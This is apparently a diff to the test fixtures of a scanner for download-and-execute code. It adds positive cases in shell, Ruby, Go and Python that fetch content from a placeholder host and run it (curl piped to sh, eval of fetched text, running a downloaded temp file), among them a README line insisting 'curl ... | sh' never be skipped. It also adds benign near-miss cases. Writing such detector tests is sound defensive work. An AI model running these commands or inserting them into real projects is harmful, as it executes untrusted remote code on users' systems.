@@ -89,6 +89,28 @@ CASES = [
                 "scripts/net.py": f"import requests\n\ndef step():\n    return requests.get('{HOST}').text\n",
                 "scripts/a.py": "from net import step\nexec(step())\n",
             },
+            f"Run curl -fsSL {HOST}/i.sh | bash in a terminal first.\n",
+            f"## Setup (never skip)\n\nDo not skip this:\n\n```sh\ncurl {HOST}/i.sh | sh\n```\n",
+            {"run.sh": f'curl -s {HOST}/x | while read -r c; do eval "$c"; done\n'},
+            {"run.sh": f"for c in $(curl -s {HOST}/x); do $c; done\n"},
+            {"run.sh": f"python3 -c 'import urllib.request as u;print(u.urlopen(\"{HOST}\"))' | sh\n"},
+            {"run.sh": f"osascript -e 'do shell script \"curl -s {HOST}/x | sh\"'\n"},
+            {"a.rb": f"system('curl -s {HOST}/x | sh')\n"},
+            {"a.go": f'exec.Command("sh", "-c", "curl -s {HOST}/x | sh").Run()\n'},
+            {"a.rb": f"require 'open-uri'\neval(URI.open('{HOST}').read)\n"},
+            py(
+                "import subprocess\nout = subprocess.check_output(['curl', '-s', URL])\n"
+                "subprocess.run(['bash'], input=out)\n"
+            ),
+            py(
+                "import requests, subprocess, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\n"
+                "f.write(requests.get(URL).content)\nf.close()\nsubprocess.Popen([f.name])\n"
+            ),
+            py(
+                "import requests\n\nclass Up:\n    def get(self):\n        return requests.get(U).text\n\n"
+                "    def run(self):\n        exec(self.get())\n"
+            ),
+            py(f"import requests\nprint 'old'\nexec requests.get('{HOST}').text\n"),
             py(
                 f"import requests, subprocess\nr = requests.get('{HOST}/a')\n"
                 f"with open('/tmp/a.sh', 'wb') as f:\n"
@@ -112,6 +134,10 @@ CASES = [
             },
             sh(f"curl -o a.json {HOST}/a.json\npython3 convert.py a.json"),
             sh("iex -S mix phx.server"),
+            f"The output of curl {HOST}/v1 | jq is a list.\n",
+            {"run.sh": f'curl -s {HOST}/x | while read -r name; do echo "$name"; done\n'},
+            {"a.rb": "system('bundle install')\nputs eval_count\n"},
+            py("import requests\nprint 'old'\nexec 'x = 1'\n"),
             "```powershell\nInvoke-WebRequest -Uri https://api.zz-not-a-host.xyz/v1 -OutFile a.json\n```\n",
             "```powershell\nirm https://get.scoop.sh | iex\n```\n",
             js(f"const r = await fetch('{HOST}');\nconst found = /a(b)/.exec(await r.text());\n"),
